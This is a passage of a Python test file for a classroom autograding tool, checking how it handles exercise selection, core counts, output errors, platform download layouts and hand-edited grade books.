def test_make_grade_grades_each_exercise_only_names_once_and_in_course_order(tmp_path, monkeypatch, capsys):
    # ONLY=ex03,ex01,ex03 as typed: ex03 graded twice for every learner, and its columns ahead of ex01's
    (tmp_path / "alice").mkdir()
    given = []

    def grade_learners(learners, exercises, time_limit, jobs, wall_seconds=None, kept=None):
        given.extend(exercise.name for exercise in exercises)
        return none_graded(learners, exercises, time_limit, jobs)

    monkeypatch.setattr(grade_class, "grade_learners", grade_learners)
    assert grade_class.main([str(tmp_path), "--only", "ex03,ex01,ex03"]) == 0
    assert given == ["ex01", "ex03"]
    assert "grading 1 learner x 2 exercises (" in capsys.readouterr().out
    assert read_csv(tmp_path / "grades.csv")[0] == ["learner", "ex01 (/10)", "ex03 (/10)", "total (/20)"]


def test_make_grade_runs_as_many_submissions_at_once_as_it_has_cores_not_as_the_machine_has(tmp_path, monkeypatch,
                                                                                           capsys):
    # taskset -c 0, or a container given 1 core of 8: os.cpu_count() put 8 submissions on that one core by turns,
    # each 8 times slower on the wall clock and nearer its wall-clock limit
    (tmp_path / "alice").mkdir()
    given = {}

    def grade_learners(learners, exercises, time_limit, jobs, wall_seconds=None, kept=None):
        given.update(jobs=jobs)
        return none_graded(learners, exercises, time_limit, jobs)

    monkeypatch.setattr(grade_class, "grade_learners", grade_learners)
    monkeypatch.setattr(os, "cpu_count", lambda: 8)
    monkeypatch.setattr(os, "sched_getaffinity", lambda pid: {0}, raising=False)
    assert grade_class.main([str(tmp_path), "--only", "ex01"]) == 0
    assert given["jobs"] == 1 and "(120 s of CPU each, 1 at a time)" in capsys.readouterr().out


@pytest.mark.parametrize("learners, jobs, warned", [
    (("alice", "bob"), "1", ""),
    (("alice", "bob"), "3", "warning: JOBS=3 is more than the 1 core make grade may run on: submissions take turns, "
                            "and the wall-clock limit may stop a slow one\n"),
    (("alice",), "3", ""),              # one submission, one core: nothing takes turns
])
def test_make_grade_warns_before_grading_when_jobs_is_more_than_the_cores_it_may_run_on(learners, jobs, warned,
                                                                                        tmp_path, monkeypatch, capsys):
    # under taskset -c 0 with JOBS=9, a solved submission taking its turns on the one core got "did not finish within
    # 20 s" (TIME_LIMIT=5), with no word of why; with JOBS=1 it got full marks
    for learner in learners:
        (tmp_path / learner).mkdir()
    monkeypatch.setattr(grade_class, "grade_learners", none_graded)
    monkeypatch.setattr(os, "sched_getaffinity", lambda pid: {0}, raising=False)
    assert grade_class.main([str(tmp_path), "--only", "ex01", "--jobs", jobs]) == 0
    assert capsys.readouterr().err == warned


def test_make_grade_into_a_closed_pipe_is_one_line_not_a_broken_pipe_error(tmp_path, monkeypatch, capsys):
    (tmp_path / "alice").mkdir()
    monkeypatch.setattr(grade_class, "grade_learners", none_graded)
    with closed_pipe(line_buffered=False) as stdout:  # `make grade SUBMISSIONS=dir | head -1`
        assert grade_class.main([str(tmp_path), "--only", "ex01"]) == 1
        assert capsys.readouterr().err == output_closed("make grade")
        stdout.close()              # flushes, as Python does at exit: no "Exception ignored ... BrokenPipeError"


@pytest.mark.parametrize("lines, written", [(0, False), (1, True)], ids=["grading-line", "table"])
def test_make_grade_into_an_output_that_takes_no_more_is_one_line_not_a_traceback(lines, written, tmp_path,
                                                                                  monkeypatch, capsys):
    # `make grade SUBMISSIONS=class ONLY=ex01 > /dev/full`: an OSError traceback at the "grading ..." line (errno 28),
    # or, the first line written, at the table's
    (tmp_path / "alice").mkdir()
    monkeypatch.setattr(grade_class, "grade_learners", all_passed)
    with full_output(lines):
        assert grade_class.main([str(tmp_path), "--only", "ex01"]) == 1
        assert capsys.readouterr().err == ("error: the output of make grade could not be written: No space left on "
                                           "device (the disk it goes to is full?)\n")
        assert (tmp_path / "grades.csv").exists() == written


def test_make_grade_printing_what_a_strict_output_encoding_cannot_show_is_one_line(tmp_path, monkeypatch, capsys):
    # PYTHONIOENCODING=ascii:strict (the Makefile keeps an error handler the instructor chose) and a learner folder
    # named Zoë: the table ended in a UnicodeEncodeError traceback out of print_table
    (tmp_path / "Zo\u00eb").mkdir()
    monkeypatch.setattr(grade_class, "grade_learners", none_graded)
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(io.BytesIO(), encoding="ascii", errors="strict"))
    assert grade_class.main([str(tmp_path), "--only", "ex01"]) == 1
    assert capsys.readouterr().err == ("error: make grade was printing the character '\\xeb', which the output's "
                                       "encoding (ascii) cannot show: leave out PYTHONIOENCODING's error handler "
                                       "(:strict), or use PYTHONIOENCODING=utf-8\n")


@pytest.mark.parametrize("argv, message", [
    (["{missing}"], "error: the submissions folder {missing} does not exist"),
    (["{empty}"], "error: {empty} holds no learner folders: one sub-folder per learner, holding their exercise "
                  "files"),
    (["{empty}", "--only", "ex01,ex99"], "error: no exercise called 'ex99'; the exercises are ex01, ex02, ex03, ex04, "
                                         "ex05, ex06, ex07"),
    (["{empty}", "--only", "ex01,,ex02"], "error: ONLY='ex01,,ex02' has an empty name between its commas: give "
                                          "exercise names separated by commas, e.g. ONLY=ex01,ex03"),
    (["{empty}", "--time-limit", "0"], "error: TIME_LIMIT must be a whole number of seconds from 1 to 86400, got '0'"),
    # "from 1 to 86400": a day of CPU is taken (then the folder is what is wrong), a second more is not
    (["{empty}", "--time-limit", "86400"], "error: {empty} holds no learner folders"),
    (["{empty}", "--time-limit", "86401"], "error: TIME_LIMIT must be a whole number of seconds from 1 to 86400, got "
                                           "'86401'"),
    (["{empty}", "--wall-limit", "-1"], "error: WALL_LIMIT must be a whole number of seconds from 1 to 604800, got "
                                        "'-1'"),
    (["{file}"], "error: {file} is a file, not a folder of submissions"),
    ([], "error: give the submissions folder (make grade SUBMISSIONS=dir), or --learner DIR"),
], ids=["missing-folder", "empty-folder", "unknown-exercise", "empty-exercise-name", "zero-time-limit",
        "a-days-time-limit", "over-a-days-time-limit", "negative-wall-limit", "a-file", "no-folder"])
def test_make_grade_bad_input_is_one_line_and_exit_2(argv, message, tmp_path, capsys):
    names = {"missing": tmp_path / "nowhere", "empty": tmp_path / "empty", "file": tmp_path / "class.zip"}
    names["empty"].mkdir()
    names["file"].write_bytes(b"PK")
    assert grade_class.main([arg.format(**names) for arg in argv]) == 2
    out, err = capsys.readouterr()
    assert out == "" and len(err.splitlines()) == 1 and err.startswith(message.format(**names)), err


@pytest.mark.parametrize("files, found", [
    (["smithann_12345_67890_{ex01}.py", "smithann_LATE_12345_67891_{ex02}.ipynb", "libo_12346_67892_{ex01}.py"],
     "3 exercise files of 2 learners, as Canvas' download names them (libo_12346_67892_{ex01}.py, ...): make grade "
     "needs one sub-folder per learner, holding their files under the exercise's own name, such as libo/{ex01}.py"),
    (["Ann Smith_12345_assignsubmission_file_{ex02}.ipynb",
      "Ann Smith_12345_assignsubmission_onlinetext_onlinetext.html"],
     "1 exercise file of 1 learner, as Moodle's download without folders names them (Ann "
     "Smith_12345_assignsubmission_file_{ex02}.ipynb): make grade needs one sub-folder per learner, holding their "
     "files under the exercise's own name, such as Ann Smith_12345/{ex02}.ipynb; or download them again with "
     "\"Download submissions in folders\" ticked"),
    (["ex1.py", "Ex 2.py", "notes.txt"],
     "2 files named like exercise files (Ex 2.py, ...): make grade needs one sub-folder per learner, holding their "
     "files under the exercise's own name, such as ann/{ex02}.py"),
    (["submissions.zip", "2026-12-07T1522_Grades-DL101.csv", ".DS_Store", "grades_earlier.csv"],
     "only 2 files (2026-12-07T1522_Grades-DL101.csv, submissions.zip): unzip submissions.zip here, so that it holds "
     "one sub-folder per learner, holding their exercise files"),
    (["Grades-DL101-Exercises-12345.csv", "index.html", "a.zip", "b.ZIP"],
     "only 4 files (Grades-DL101-Exercises-12345.csv, a.zip, b.ZIP, ...): unzip a.zip and the other zips here, so "
     "that it holds one sub-folder per learner, holding their exercise files"),
    (["Grades-DL101-Exercises-12345.csv", "submissions.TAR.GZ", "videos.7z"],
     "only 3 files (Grades-DL101-Exercises-12345.csv, submissions.TAR.GZ, videos.7z): unpack submissions.TAR.GZ and "
     "the other archives here, so that it holds one sub-folder per learner, holding their exercise files"),
    (["Grades-DL101-Exercises-12345.csv", "index.html"],
     "only 2 files (Grades-DL101-Exercises-12345.csv, index.html): SUBMISSIONS= is the folder that holds one "
     "sub-folder per learner, holding their exercise files"),
], ids=["canvas", "moodle-without-folders", "unnamed", "zipped-download", "zipped-downloads", "packed-downloads",
        "grades-export-only"])
def test_a_flat_download_is_refused_in_one_line_naming_what_it_holds_and_how_to_lay_it_out(files, found, tmp_path,
                                                                                         capsys):
    """Canvas' download (and Moodle's without folders) puts every learner's files side by side, each name led by
    the learner's: refused as "holds no learner folders: one sub-folder per learner, ...", as an empty folder is.
    A platform's download still zipped, or its grades export alone, is named too (hidden files and make grade's own
    left out), with what to do: unzip it there (unpack it, when one is a .tar.gz, .7z, ... rather than a zip), or give
    the folder that holds the learners' folders."""
    stems = {"ex01": find("ex01").stem, "ex02": find("ex02").stem}
    for name in files:
        (tmp_path / name.format(**stems)).write_text("x = 1\n", encoding="utf-8")
    assert grade_class.main([str(tmp_path), "--only", "ex01"]) == 2
    assert capsys.readouterr() == ("", f"error: {tmp_path} holds no learner folders, but {found.format(**stems)}\n")
    assert not (tmp_path / "grades.csv").exists()


def test_a_flat_download_beside_a_folder_is_refused_not_graded_as_that_folder(tmp_path, capsys):
    """Canvas' download with the instructor's own graded/ beside it: graded/ was graded as the class's one learner,
    all zeros, and the learners' files were only listed as "(not a folder)". A file named like an exercise that no
    platform named (the instructor's ex01_solution.py) is still skipped, not refused."""
    stem = find("ex01").stem
    (tmp_path / "graded").mkdir()
    for name in (f"smithann_12345_67890_{stem}.py", f"libo_12346_67892_{stem}.py"):
        (tmp_path / name).write_text("x = 1\n", encoding="utf-8")
    assert grade_class.main([str(tmp_path), "--only", "ex01"]) == 2
    assert capsys.readouterr() == ("", f"error: {tmp_path} holds 1 folder (graded), but 2 exercise files of 2 "
                                       f"learners, as Canvas' download names them (libo_12346_67892_{stem}.py, ...): "
                                       "make grade needs one sub-folder per learner, holding their files under the "
                                       f"exercise's own name, such as libo/{stem}.py\n")
    for path in tmp_path.glob("*_6789*"):
        path.unlink()
    (tmp_path / "ex01_solution.py").write_text("x = 1\n", encoding="utf-8")
    assert learner_folders.find_learners(tmp_path) == ({"graded": tmp_path / "graded"},
                                                      ["ex01_solution.py (not a folder)"])

@pytest.mark.parametrize("folders, listed", [(["ann", "bob", "cy"], "ann, bob, cy"),
                                             (["ann", "bob", "cy", "dan"], "ann, bob, cy, ...")])
def test_folders_beside_a_flat_download_are_listed_three_at_most(folders, listed, tmp_path):
    stem = find("ex01").stem
    for name in folders:
        (tmp_path / name).mkdir()
    (tmp_path / f"smithann_12345_67890_{stem}.py").write_text("x = 1\n", encoding="utf-8")
    with pytest.raises(ValueError) as refused:
        learner_folders.find_learners(tmp_path)
    assert str(refused.value).startswith(f"{tmp_path} holds {len(folders)} folders ({listed}), but 1 exercise file ")


def test_folders_listed_beside_a_flat_download_are_named_in_quotes_when_a_name_holds_a_comma(tmp_path, capsys):
    """"holds 2 folders (Smith, Ann, bob)": two folders, or three? Named as grades.csv and make grade's other lists
    name such a learner."""
    stem = find("ex01").stem
    (tmp_path / "Smith, Ann").mkdir()
    (tmp_path / "bob").mkdir()
    for name in (f"smithann_12345_67890_{stem}.py", f"libo_12346_67892_{stem}.py"):
        (tmp_path / name).write_text("x = 1\n", encoding="utf-8")
    assert grade_class.main([str(tmp_path), "--only", "ex01"]) == 2
    assert capsys.readouterr().err.startswith(f'error: {tmp_path} holds 2 folders (bob, "Smith, Ann"), but 2 exercise ')



def test_a_flat_download_mixed_with_other_exercise_files_is_no_platforms_download(tmp_path):
    """Canvas' names beside a file no platform named: not "as Canvas' download names them" (the count of learners
    would take the stray file for one, or fail on it), but what the folder does hold, and the layout it needs."""
    stem = find("ex01").stem
    for name in (f"libo_12346_67892_{stem}.py", f"smithann_12345_67890_{stem}.py", f"zz_{stem}.py"):
        (tmp_path / name).write_text("x = 1\n", encoding="utf-8")
    with pytest.raises(ValueError) as refused:
        learner_folders.find_learners(tmp_path)
    assert str(refused.value) == (f"{tmp_path} holds no learner folders, but 3 files named like exercise files "
                                  f"(libo_12346_67892_{stem}.py, ...): make grade needs one sub-folder per learner, "
                                  f"holding their files under the exercise's own name, such as ann/{stem}.py")


def test_a_flat_download_beside_a_folder_and_an_instructors_file_is_still_refused(tmp_path):
    """The instructor's ex01_solution.py beside graded/ and Canvas' files: one file no platform named made the
    download no platform's, graded/ was graded as the class, all zeros, and the learners' files only skipped."""
    stem = find("ex01").stem
    (tmp_path / "graded").mkdir()
    for name in ("ex01_solution.py", f"libo_12346_67892_{stem}.py", f"smithann_12345_67890_{stem}.py"):
        (tmp_path / name).write_text("x = 1\n", encoding="utf-8")
    with pytest.raises(ValueError) as refused:
        learner_folders.find_learners(tmp_path)
    assert str(refused.value) == (f"{tmp_path} holds 1 folder (graded), but 2 exercise files of 2 learners, as "
                                  f"Canvas' download names them (libo_12346_67892_{stem}.py, ...): make grade needs "
                                  "one sub-folder per learner, holding their files under the exercise's own name, "
                                  f"such as libo/{stem}.py")


def test_one_learners_folder_holding_its_file_and_copies_in_sub_folders_is_that_learner_not_a_class(tmp_path):
    """ann/ holds the exercise file, and older copies in v1/ and v2/: one learner, graded from ann/, not "the class's
    folder, as an archive's extra level leaves it"."""
    name = f"{find('ex01').stem}.py"
    folder = write_class(tmp_path / "class", {"ann": {name: "x = 1\n", f"v1/{name}": "", f"v2/{name}": ""}})
    assert learner_folders.find_learners(folder) == ({"ann": folder / "ann"}, [])


def test_a_class_folder_one_level_down_names_three_of_its_learners_at_most(tmp_path):
    name = f"{find('ex01').stem}.py"
    learners = ("ann", "bob", "cy", "dan")
    outer = write_class(tmp_path / "outer", {"class": {f"{learner}/{name}": "" for learner in learners}})
    with pytest.raises(ValueError) as refused:
        learner_folders.find_learners(outer)
    assert "whose sub-folders hold exercise files (ann, bob, cy, ...): it is the class's folder" in str(refused.value)


@pytest.mark.parametrize("hidden", [".old", ".ipynb_checkpoints"])
def test_hidden_sub_folders_of_one_learners_folder_are_not_taken_for_learners(hidden, tmp_path):
    """ann/work/ holds the exercise file and a backup tool's (or Jupyter's) hidden folder a copy: one learner, whose
    grade says "found work/...: move it up", not a class folder of two learners, one of them hidden."""
    name = f"{find('ex01').stem}.py"
    folder = write_class(tmp_path / "class", {"ann": {f"work/{name}": "x = 1\n", f"{hidden}/{name}": ""}})
    assert learner_folders.find_learners(folder) == ({"ann": folder / "ann"}, [])


def test_a_symbolic_link_to_a_sub_folder_of_one_learners_folder_is_not_taken_for_a_learner(tmp_path):
    """ann/work/ holds the exercise file and ann/latest links to it: one learner, not "the class's folder" of two
    (latest, work). A link is no learner's folder anywhere else either: make grade SUBMISSIONS=class/ann, as that
    message says, would skip latest as "(symbolic link)" and grade work alone."""
    name = f"{find('ex01').stem}.py"
    folder = write_class(tmp_path / "class", {"ann": {f"work/{name}": "x = 1\n"}})
    (folder / "ann" / "latest").symlink_to(folder / "ann" / "work", target_is_directory=True)
    assert learner_folders.find_learners(folder) == ({"ann": folder / "ann"}, [])


def test_a_symbolic_link_named_like_a_canvas_file_beside_learner_folders_is_skipped_not_a_download(tmp_path):
    """A link named as Canvas names a learner's file, beside ann/: skipped as a link, as every link in the folder is
    (make grade never grades a link's target), not "holds 1 folder (ann), but 1 exercise file of 1 learner, as
    Canvas' download names them" -- a refusal of the whole class over a file it would not grade."""
    stem = find("ex01").stem
    folder = write_class(tmp_path / "class", {"ann": {f"{stem}.py": "x = 1\n"}})
    (tmp_path / "elsewhere.py").write_text("x = 1\n", encoding="utf-8")
    link = f"libo_12346_67892_{stem}.py"
    (folder / link).symlink_to(tmp_path / "elsewhere.py")
    assert learner_folders.find_learners(folder) == ({"ann": folder / "ann"}, [f"{link} (symbolic link)"])


def test_an_lms_exports_own_files_beside_learner_folders_are_each_named_as_skipped_never_taken_for_learners(
        tmp_path):
    """A class folder as a learning platform exports it, with the instructor's files beside the learners' folders:
    Canvas' grades export, Moodle's grading worksheet, an index.html, a Mac's .DS_Store, the download's own zip.
    The learners are the folders alone, and each of those files is named in the skipped line (in roll order), none
    left out unsaid."""
    folder = write_class(tmp_path / "class", {"ann": {"notes.txt": ""}, "bob": {"notes.txt": ""}})
    files = ("2026-12-07T1522_Grades-DL101.csv", "Grades-DL101-Exercises-12345.csv", "index.html", ".DS_Store",
             "submissions.zip")
    for name in files:
        (folder / name).write_bytes(b"\0")
    assert learner_folders.find_learners(folder) == (
        {"ann": folder / "ann", "bob": folder / "bob"},
        [".DS_Store (not a folder)", "2026-12-07T1522_Grades-DL101.csv (not a folder)",
         "Grades-DL101-Exercises-12345.csv (not a folder)", "index.html (not a folder)",
         "submissions.zip (not a folder)"])


def test_a_second_make_grade_on_the_same_folder_is_refused_in_one_line(tmp_path, capsys):
    """Two make grades at once on one folder: the last to finish wrote its grades.csv over the other's (under ONLY=,
    the other's regraded column back to its earlier value), and each warned that a submission had changed the folder."""
    folder = write_class(tmp_path / "class", {"ann": {"notes.txt": ""}})
    (folder / "grades.csv").write_text(EARLIER_GRADES, encoding="utf-8")
    with held_alone(folder, RuntimeError("held")):      # the first make grade, still grading, holds it as each does
        assert grade_class.main([str(folder), "--only", "ex03"]) == 2
    out, err = capsys.readouterr()
    assert (out, err) == ("", f"error: another make grade is grading {folder} right now; wait for it to end, then "
                              "grade again (each writes its own grades.csv there)\n")
    assert (folder / "grades.csv").read_text(encoding="utf-8") == EARLIER_GRADES


# --- make grade ONLY=: the earlier grade book is kept ----------------------------------------------------------

EX01_PASSED = "Perceptron1D, Perceptron, Sigmoid, Tanh, ReLU and NeuralNetwork match the formulas"
# what an earlier `make grade ONLY=ex01,ex03` left, bob's ex03 since marked 7 of 10 by hand
EARLIER_GRADES = "learner,ex01,ex03,total\nann,0,10,10\nbob,10,7,17\nzoe,10,10,20\n"
EARLIER_REASONS = f"""learner,exercise,file,points,reason
ann,ex01,ex01_perceptron_activations.py,0,not done yet: fill in the TODO in Perceptron1D.run
ann,ex03,ex03_keras_basics.ipynb,10,fresh-data RMSE 5.33 (target <= 8)
bob,ex01,ex01_perceptron_activations.py,10,"{EX01_PASSED}"
bob,ex03,ex03_keras_basics.py,7,"partial: 7 of 10, see the mail of 3 May"
zoe,ex01,ex01_perceptron_activations.py,10,"{EX01_PASSED}"
zoe,ex03,ex03_keras_basics.py,10,fresh-data RMSE 6.01 (target <= 8)
"""


@pytest.mark.filterwarnings("ignore:This process .* is multi-threaded:DeprecationWarning")   # fork(): see
def test_only_regrades_its_exercises_and_keeps_the_rest_of_the_earlier_grades(tmp_path, monkeypatch,  # isolation
                                                                              capsys):
    monkeypatch.setattr(grade_class, "_preload", lambda exercises: None)      # ex01's grader needs NumPy only
    ex01 = find("ex01")
    folder = write_class(tmp_path / "class", {"ann": {f"{ex01.stem}.py": ex01.solution_path.read_text("utf-8")},
                                              "bob": {f"{ex01.stem}.py": RAISES},
                                              "fay": {f"{ex01.stem}.py": ex01.solution_path.read_text("utf-8")}})
    (folder / "grades.csv").write_text(EARLIER_GRADES, encoding="utf-8")
    (folder / "grades_reasons.csv").write_text(EARLIER_REASONS, encoding="utf-8")
    assert grade_class.main([str(folder), "--only", "ex01,ex02,ex04", "--time-limit", "2", "--jobs", "2"]) == 0
    merged = [["learner", "ex01", "ex02", "ex03", "ex04", "total"],   # course order: the new ex02 and ex04 on
              ["ann", "10", "0", "10", "0", "20"],                    # either side of the kept ex03; ann's ex01
              ["bob", "0", "0", "7", "0", "7"],                       # regraded (solved since), bob's (raises now)
              ["fay", "10", "0", "0", "0", "10"],                     # and his hand-given 7 kept; fay is new since,
              ["zoe", "10", "0", "10", "0", "20"]]                    # zoe has no folder now: her row is kept
    assert read_csv(folder / "grades.csv") == [["learner", "ex01 (/10)", "ex02 (/15)", "ex03 (/10)", "ex04 (/15)",
                                                "total (/50)"], *merged[1:]]
    reasons = {(learner, exercise): (file, points, reason)
               for learner, exercise, file, points, reason in read_csv(folder / "grades_reasons.csv")[1:]}
    missing = {name: ("", "0", f"missing: no {find(name).stem}.py or .ipynb") for name in ("ex02", "ex04")}
    assert reasons == {
        ("ann", "ex01"): (f"{ex01.stem}.py", "10", EX01_PASSED), ("ann", "ex02"): missing["ex02"],
        ("ann", "ex03"): ("ex03_keras_basics.ipynb", "10", "fresh-data RMSE 5.33 (target <= 8)"),
        ("ann", "ex04"): missing["ex04"],
        ("bob", "ex01"): (f"{ex01.stem}.py", "0", "your code raised RuntimeError in the top level of the file (line 1 "
                                                  f"of {ex01.stem}.py): broken at import"),
        ("bob", "ex02"): missing["ex02"],
        ("bob", "ex03"): ("ex03_keras_basics.py", "7", "partial: 7 of 10, see the mail of 3 May"),
        ("bob", "ex04"): missing["ex04"],
        ("fay", "ex01"): (f"{ex01.stem}.py", "10", EX01_PASSED), ("fay", "ex02"): missing["ex02"],
        ("fay", "ex03"): ("", "0", "not graded: the earlier grades.csv has no row for fay, and ONLY=ex01,ex02,ex04 "
                                   "left ex03 out"),
        ("fay", "ex04"): missing["ex04"],
        ("zoe", "ex01"): (f"{ex01.stem}.py", "10", EX01_PASSED),
        ("zoe", "ex02"): ("", "0", "not graded: zoe has no folder now, and the earlier grades.csv has no ex02"),
        ("zoe", "ex03"): ("ex03_keras_basics.py", "10", "fresh-data RMSE 6.01 (target <= 8)"),
        ("zoe", "ex04"): ("", "0", "not graded: zoe has no folder now, and the earlier grades.csv has no ex04")}
    lines = capsys.readouterr().out.splitlines()
    kept = lines.index("kept ex03 and the rows of zoe (no folder now) from the earlier grades.csv "
                       "(ONLY=ex01,ex02,ex04 regraded ex01, ex02, ex04)")
    assert [line.split() for line in lines[kept + 1:kept + 7]] == [*merged, ["out", "of", "10", "15", "10", "15",
                                                                             "50"]]
    assert sorted(path.name for path in folder.iterdir() if path.is_file()) == ["grades.csv", "grades_reasons.csv"]


def test_without_only_the_grade_book_is_written_afresh(tmp_path):
    ex01 = find("ex01")
    folder = write_class(tmp_path / "class", {"ann": {f"{ex01.stem}.py": ex01.solution_path.read_text("utf-8")}})
    (folder / "grades.csv").write_text("learner,ex01,total\nann,0,0\n", encoding="utf-8")   # nothing typed by hand
    assert grade_class.main([str(folder), "--time-limit", "2"]) == 0
    assert read_csv(folder / "grades.csv") == [["learner", "ex01 (/10)", "ex02 (/15)", "ex03 (/10)", "ex04 (/15)",
                                                "ex05 (/15)", "ex06 (/20)", "ex07 (/15)", "total (/100)"],
                                               ["ann", "10", "0", "0", "0", "0", "0", "0", "10"]]
    assert sorted(path.name for path in folder.iterdir() if path.is_file()) == ["grades.csv", "grades_reasons.csv"]


def none_graded(learners, exercises, time_limit, jobs, wall_seconds=None, kept=None):
    """grade_class.grade_learners for a test of what make grade does around the grading: every grade 0, none run."""
    return {name: {e.name: gradebook.Grade("", 0, "not graded") for e in exercises} for name in learners}


def all_passed(learners, exercises, time_limit, jobs, wall_seconds=None, kept=None):
    """grade_class.grade_learners for a class that solved everything: each exercise's points, no grader run."""
    return {name: {e.name: gradebook.Grade(f"{e.stem}.py", e.points, "passed") for e in exercises} for name in learners}


@pytest.mark.parametrize("learners, grades, held", [
    (("ann", "bob", "zoe"), EARLIER_GRADES, "it held 1 grade given by hand (bob ex03 7)"),
    (("ann", "bob", "zoe"), EARLIER_GRADES.replace("ann,0,10,10", "ann,0,10,15"),
     "it held 1 grade given by hand (bob ex03 7) and 1 total changed by hand (ann 15)"),
    (("ann", "bob"), EARLIER_GRADES.replace("bob,10,7,17", "bob,10,10,23"),
     "it held 1 total changed by hand (bob 23) and a row for zoe, whose folder is gone"),
    (("ann",), EARLIER_GRADES.replace("ann,0,10,10", "ann,8,10,18"),       # bob's 7 goes with his row
     "it held 1 grade given by hand (ann ex01 8) and rows for bob, zoe, whose folders are gone"),
    (("ann", "bob", "zoe"), EARLIER_GRADES.replace(",total\n", ",comments,total\n").replace(",10\n", ",late,10\n")
     .replace(",17\n", ",,17\n").replace(",20\n", ",,20\n"),
     "it could not be read as a grade book ({folder}/grades.csv: its column 'comments' is not an exercise: they are "
     "ex01, ex02, ex03, ex04, ex05, ex06, ex07), so what was typed into it could not be told"),
    (("ann",), "learner,ex01,total\nb\u00e9a,10,10\n".encode("latin-1"),
     "it could not be read as a grade book ({folder}/grades.csv: not UTF-8 text: byte 0xe9 at position 20), so what "
     "was typed into it could not be told"),
], ids=["grade-by-hand", "total-by-hand", "folder-gone", "folders-gone", "a-comments-column", "not-utf8"])
def test_without_only_an_earlier_book_holding_what_the_new_one_would_lose_is_kept_aside_first(
        learners, grades, held, tmp_path, monkeypatch, capsys):
    """A whole class graded again wrote grades.csv afresh: bob's 7 of 10 given by hand, ann's bonus, zoe's row (her
    folder since taken out) and a column of comments were gone without a word."""
    folder = write_class(tmp_path / "class", {learner: {"notes.txt": ""} for learner in learners})
    earlier = grades if isinstance(grades, bytes) else grades.encode()
    (folder / "grades.csv").write_bytes(earlier)
    (folder / "grades_reasons.csv").write_text(EARLIER_REASONS, encoding="utf-8")
    monkeypatch.setattr(grade_class, "grade_learners", all_passed)
    assert grade_class.main([str(folder)]) == 0
    line = (f"kept the earlier grades.csv, grades_reasons.csv as grades_earlier.csv, grades_reasons_earlier.csv: "
            f"{held.format(folder=folder)}; copy what still stands into the new grades.csv")
    assert line in capsys.readouterr().out.splitlines()
    assert (folder / "grades_earlier.csv").read_bytes() == earlier
    assert (folder / "grades_reasons_earlier.csv").read_text(encoding="utf-8") == EARLIER_REASONS
    full_marks = [str(e.points) for e in EXERCISES]
    assert read_csv(folder / "grades.csv")[1:] == [[learner, *full_marks, str(sum(e.points for e in EXERCISES))]
                                                   for learner in learners]
    assert learner_folders.find_learners(folder) == ({name: folder / name for name in learners}, [])  # not skipped


def test_an_earlier_book_kept_aside_before_is_never_written_over(tmp_path, monkeypatch, capsys):
    """A second whole-class run whose earlier book again holds a grade given by hand: grades_earlier.csv, kept by the
    first, stays, and this one goes beside it under the next number, both of its files."""
    folder = write_class(tmp_path / "class", {"bob": {"notes.txt": ""}})
    kept_before = {"grades_earlier.csv": "first\n", "grades_reasons_earlier_2.csv": "second's reasons\n"}
    for name, text in kept_before.items():
        (folder / name).write_text(text, encoding="utf-8")
    (folder / "grades.csv").write_text("learner,ex01,total\nbob,8,8\n", encoding="utf-8")
    monkeypatch.setattr(grade_class, "grade_learners", all_passed)
    assert grade_class.main([str(folder)]) == 0
    assert ("kept the earlier grades.csv as grades_earlier_3.csv: it held 1 grade given by hand (bob ex01 8); copy "
            "what still stands into the new grades.csv") in capsys.readouterr().out.splitlines()
    assert {name: (folder / name).read_text(encoding="utf-8") for name in kept_before} == kept_before
    assert (folder / "grades_earlier_3.csv").read_text(encoding="utf-8") == "learner,ex01,total\nbob,8,8\n"
    assert learner_folders.find_learners(folder)[1] == []


def every_book_write_meets_a_full_disk(monkeypatch) -> None:
    """Every learner passes, and writing grades.csv fails as on a full disk."""
    monkeypatch.setattr(grade_class, "grade_learners", all_passed)

    def disk_full(*args):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(grade_class.gradebook, "write", disk_full)


def test_a_grade_book_kept_aside_is_named_when_the_new_one_cannot_be_written(tmp_path, monkeypatch, capsys):
    """The earlier book moved aside, then the fresh one's write failed (a full disk): the instructor was told only
    that the grades could not be written, with no grades.csv left and nothing saying where it went."""
    folder = write_class(tmp_path / "class", {"bob": {"notes.txt": ""}})
    (folder / "grades.csv").write_text("learner,ex01,total\nbob,8,8\n", encoding="utf-8")
    every_book_write_meets_a_full_disk(monkeypatch)
    assert grade_class.main([str(folder)]) == 1
    assert capsys.readouterr().err == (
        f"error: the grades cannot be written to {folder} (No space left on device); kept the earlier grades.csv as "
        "grades_earlier.csv: it held 1 grade given by hand (bob ex01 8); copy what still stands into the new "
        "grades.csv\n")
    assert (folder / "grades_earlier.csv").read_text(encoding="utf-8") == "learner,ex01,total\nbob,8,8\n"


def test_grades_that_cannot_be_written_are_one_line_when_the_folder_holds_a_line_break(tmp_path, monkeypatch, capsys):
    """SUBMISSIONS=$'class\nb' on a full disk: the folder's line break split the error in two."""
    folder = write_class(tmp_path / "class\nb", {"bob": {"notes.txt": ""}})
    every_book_write_meets_a_full_disk(monkeypatch)
    assert grade_class.main([str(folder)]) == 1
    assert capsys.readouterr().err == (
        f"error: the grades cannot be written to {tmp_path}/class\\nb (No space left on device)\n")


def test_without_only_a_grade_given_by_hand_that_the_grader_now_gives_too_is_not_kept_aside(tmp_path, monkeypatch,
                                                                                              capsys):
    folder = write_class(tmp_path / "class", {"bob": {"notes.txt": ""}})
    (folder / "grades.csv").write_text("learner,ex01,total\nbob,10,10\n", encoding="utf-8")
    (folder / "grades_reasons.csv").write_text("learner,exercise,file,points,reason\nbob,ex01,,0,missing\n",
                                               encoding="utf-8")       # by hand: 0 -> 10, as the grader gives now
    monkeypatch.setattr(grade_class, "grade_learners", all_passed)
    assert grade_class.main([str(folder)]) == 0
    assert "kept" not in capsys.readouterr().out
    assert sorted(path.name for path in folder.iterdir() if path.is_file()) == ["grades.csv", "grades_reasons.csv"]


@pytest.mark.parametrize("reasons, kept", [
    (EARLIER_REASONS, ("ex03_keras_basics.py", "partial: 7 of 10, see the mail of 3 May")),
    ("learner,exercise,points,reason\nbob,ex03,7,partial\n", ("", "partial")),     # before the file column
    (None, ("", "(graded earlier; reason not kept)")),
], ids=["with-files", "without-the-file-column", "missing"])
def test_each_kept_grade_keeps_its_file_and_reason_when_grades_reasons_csv_has_them(reasons, kept, tmp_path):
    (tmp_path / "grades.csv").write_text(EARLIER_GRADES, encoding="utf-8")
    if reasons is not None:
        (tmp_path / "grades_reasons.csv").write_text(reasons, encoding="utf-8")
    earlier = gradebook.read_earlier(tmp_path)
